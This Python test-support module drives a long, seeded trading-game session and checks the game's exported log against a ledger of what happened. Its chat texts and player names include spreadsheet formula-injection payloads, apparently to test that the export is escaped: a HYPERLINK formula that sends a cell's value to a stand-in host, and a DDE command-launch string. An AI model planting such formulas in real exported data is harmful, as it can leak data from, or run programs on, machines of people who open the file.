"""A term's worth of a market: a long game with everything in it that an export tells of, the same for the same seed."""

from __future__ import annotations

import io
import random
from collections import Counter
from collections.abc import Iterable, Iterator

import msgspec
from attrs import define, field

from tests.support.domain import BEGIN, define_game, house, stamped
from tests.support.drawing import any_command
from tradegame.core.domain import snapshot
from tradegame.core.domain.account import HOUSE
from tradegame.core.domain.definition import (
    GoodDefinition,
    NewsDefinition,
    PrivateValuesDefinition,
    RoundsDefinition,
    SettlementDefinition,
    to_json,
)
from tradegame.core.domain.events import Applied, Rejected
from tradegame.core.domain.game import Game
from tradegame.core.domain.views import told_fills
from tradegame.core.games.export import base_line, end_line, entry_line
from tradegame.core.repositories import GameMeta, LogEntry, SnapshotRef, StoredGame
from tradegame.protocol.commands import (
    Announce,
    Arrive,
    Command,
    Depart,
    Entry,
    Join,
    Pause,
    Readmit,
    Remove,
    SetRobots,
    SitIn,
    Staff,
    Unsay,
    encode_entry,
)
from tradegame.protocol.pushes import Joined, News, Removed, Said, Trade, Unsaid
from tradegame.protocol.requests import REQUESTS, PlaceOrder, Say

TERM = define_game(
    id="term",
    title="=A1+1",
    cash=20_000,
    fee_bps=30,
    open_orders=12,
    goods={
        "grain": GoodDefinition(endowment=60, house=house(stock=2_000, target=2_000, cash=50_000, drift_bps=200)),
        "oil": GoodDefinition(
            endowment=20, settlement=SettlementDefinition(values=(10, 20, 30, 40), hints_at_s=(4, 12))
        ),
        "salt": GoodDefinition(endowment=30),
        "wheat": GoodDefinition(),
    },
    private_values=PrivateValuesDefinition(good="wheat", units=4, low=10, high=35, redraw=True),
    rounds=RoundsDefinition(lobby_s=3, open_s=20, closed_s=5, repeat=0),
    disconnect_grace_s=5,
    news=(
        NewsDefinition(at_s=6, text="-2+3 frosts", good="grain", anchor_bps=2_500),
        NewsDefinition(at_s=10, text="a fair"),
    ),
)
SEED = 7
PLAYERS = [f"p-{number:012}" for number in range(40)]
TEXTS = (
    "hi",
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1)',
    "a;=cmd|' /C calc'!A0",
    'so, "he said", -3',
    "<r>no & markup</r>",
    "'quoted",
    "two\nlines\t=2",
    "ünï ☂ ＝1",
    "https://x.example/",
    "007",
    "NA",
    ";-)",
)
NAMES = ("=2*3", "+49 30 1234", "Ä. Ö.", "@home", "O'Neil", "NA", "-")


def entries(seed: int, commands: int) -> Iterator[Entry]:
    """At least so many commands, in entries of up to 12; some are refused, some come twice."""
    rng, game = random.Random(seed), Game.create(TERM, "epoch", BEGIN, seed)
    at, made, twice = BEGIN, 0, list[Command]()
    while made < commands:
        at += rng.choice((0, 1, 40, 300, 900, -500))
        some = [_command(rng, game, made + number) for number in range(rng.randrange(13))]
        if twice and rng.random() < 0.1:
            some.append(rng.choice(twice[-30:]))
        stamped(game, some)
        twice += [command for command in some if command.key is not None]
        made += len(some)
        entry = Entry(at, tuple(some))
        game.apply(entry)
        yield entry


def _command(rng: random.Random, game: Game, number: int) -> Command:
    player, kind = rng.choice(PLAYERS[: 10 + number // 50]), rng.random()
    if player in PLAYERS[:3] and game.state.clock // 9_000 % 2:  # these come and go
        return Depart(players=(player,))
    if player not in game.state.players or kind < 0.004:
        place = PLAYERS.index(player)
        choice = True if place < 3 else rng.choice((None, True, False))
        return Join(player=player, name=NAMES[place % len(NAMES)] + str(place), cancel_on_disconnect=choice)
    if kind < 0.008:
        return rng.choice((Arrive, Depart))(players=(player, rng.choice(PLAYERS)))
    if kind < 0.009:
        good, shift = rng.choice(((None, 0), ("grain", 0), ("grain", -500)))
        return Announce(text=rng.choice(TEXTS), good=good, anchor_bps=shift)
    if kind < 0.0105:
        return Pause(paused=True)
    if kind > 0.99 and game.state.paused_at is not None:
        return Pause(paused=False)
    if kind < 0.0107:
        seat = SitIn(account=player, sits=rng.random() < 0.8)
        return rng.choice((SetRobots(fill_to=9), SetRobots(), Staff(robots=rng.randrange(5)), seat))
    if kind < 0.011:
        return Unsay(message=rng.randint(max(1, game.state.said - 60), game.state.said + 1))
    if kind < 0.012:
        return Remove(account=player) if rng.random() < 0.3 else Readmit(account=rng.choice(PLAYERS))
    if player in PLAYERS[:3] and rng.random() < 0.5:  # and leave orders that nobody meets
        return PlaceOrder(player=player, good="salt", side="bid", qty=1, price=1)
    orders = [f"o{number}" for number in game.state.accounts[player].orders]
    fields = any_command(rng, [*TERM.goods, "gold"], orders, rng.choice(TEXTS))
    if fields["op"] == "say" and rng.random() < 0.4:
        fields["to"] = rng.choice(PLAYERS)
    key = f"k{rng.randrange(1_000)}" if rng.random() < 0.1 else None
    fields |= {"player": player, "key": key, "by_robot": player in game.state.seats and rng.random() < 0.9}
    if (robots := [robot for robot, ours in game.state.robots.items() if ours]) and rng.random() < 0.1:
        fields |= {"player": rng.choice(robots), "by_robot": True}
    command: Command = msgspec.convert(fields, REQUESTS[fields["op"]])
    return command


def log_of(some: Iterable[Entry], base: bytes | None = None) -> bytes:
    """The game's exported log: from its beginning, or from the state ``base``."""
    references = () if base is None else (SnapshotRef(2, snapshot.digest(base), 1, 0),)
    generation = 1 if base is None else 2
    meta = GameMeta("term", to_json(TERM), "epoch", 3, SEED, BEGIN, generation, references)
    line, chain = base_line(StoredGame(meta, 1, generation, base))
    file, count = io.BytesIO(), 0
    file.write(line + (base or b""))
    for count, entry in enumerate(some, 1):
        line, chain = entry_line(LogEntry(count, generation, f"n-{count}", encode_entry(entry)), chain)
        file.write(line)
    file.write(end_line(count, chain))
    return file.getvalue()


@define
class Ledger:
    """What the game itself told while it was played: no part of it is from the export. ``game``: as it is now."""

    game: Game
    counts: Counter[str] = field(factory=Counter)
    volume: Counter[tuple[int, str]] = field(factory=Counter)
    notional: Counter[tuple[int, str]] = field(factory=Counter)
    fees: int = 0
    removed: set[tuple[int, str]] = field(factory=set)
    """The round, and who was removed in it: they may have begun it anew."""

    def play(self, some: Iterable[Entry]) -> Iterator[Entry]:
        """The entries, applied one by one."""
        for entry in some:
            applied = self.game.apply(entry)
            self._follow(entry, applied)
            yield entry

    def _follow(self, entry: Entry, applied: Applied) -> None:
        state = self.game.state
        for event in applied.frame.events if applied.frame else ():
            match event:
                case Trade(good=good, qty=qty, price=price):
                    self.counts["trades"] += 1
                    self.volume[state.round, good] += qty
                    self.notional[state.round, good] += qty * price
                case Removed(player=player):
                    self.removed.add((state.round, player))
                case Joined():
                    self.counts["joined"] += 1
                case Said() | Unsaid():
                    self.counts["chat"] += 1
                case News():
                    self.counts["headlines"] += 1
        for packed in applied.fills.values():
            self.fees += sum(fill.fee for fill in told_fills(state, packed))
        hints = sum(whispered.player == HOUSE for whispered in applied.whispers)
        self.counts["hints"] += hints
        self.counts["chat"] += len(applied.whispers) - hints
        for command, outcome in zip(entry.commands, applied.outcomes, strict=True):
            if not outcome.replayed and not isinstance(outcome.result, Rejected) and not isinstance(command, Say):
                self.counts[command.op] += 1
